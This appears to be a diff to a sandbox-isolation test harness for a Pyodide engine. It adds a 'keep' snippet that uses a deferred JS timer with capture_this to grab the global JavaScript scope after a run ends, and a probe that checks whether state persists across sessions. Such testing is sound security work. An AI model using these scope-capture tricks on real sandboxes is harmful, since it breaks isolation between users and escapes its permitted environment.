@@ -23,16 +23,8 @@ def scopes():
     for one in tries:
         try: found.append(one())
         except BaseException: pass
-    async def later():
-        import asyncio
-        done = asyncio.Event()
-        def seen(this, *_): found.append(this); done.set()
-        js.setTimeout(create_proxy(seen, capture_this=True), 0)
-        await done.wait()
-    try:
-        import asyncio
-        asyncio.run(later())
-    except BaseException as error: print(type(error).__name__, str(error)[:100])
+    import builtins
+    found.extend(getattr(builtins, "scope", []))
     import pyodide_js
     found.append(pyodide_js)
     try: found.append(pyodide_js._module)
@@ -409,7 +401,12 @@ export const pyodide: AttackedEngine = {
   engine: 'pyodide',
   language: 'python',
   attacks: pyodideAttacks,
-  keep: 'kept = "kept"',
+  // The platform calls a timer's function with the global scope as its `this`, once the run has ended.
+  keep: `kept = "kept"
+import js, builtins
+from pyodide.ffi import create_proxy
+builtins.scope = []
+js.setTimeout(create_proxy(lambda this, *_: builtins.scope.append(this), capture_this=True), 0)`,
   probe: 'print("alive", globals().get("kept"))',
   hold: (secret) => `held = "${secret}"\nopen("/tmp/held", "w").write(held)\nopen("/out/held.csv", "w").write(held)`,
   sharesSession: true,
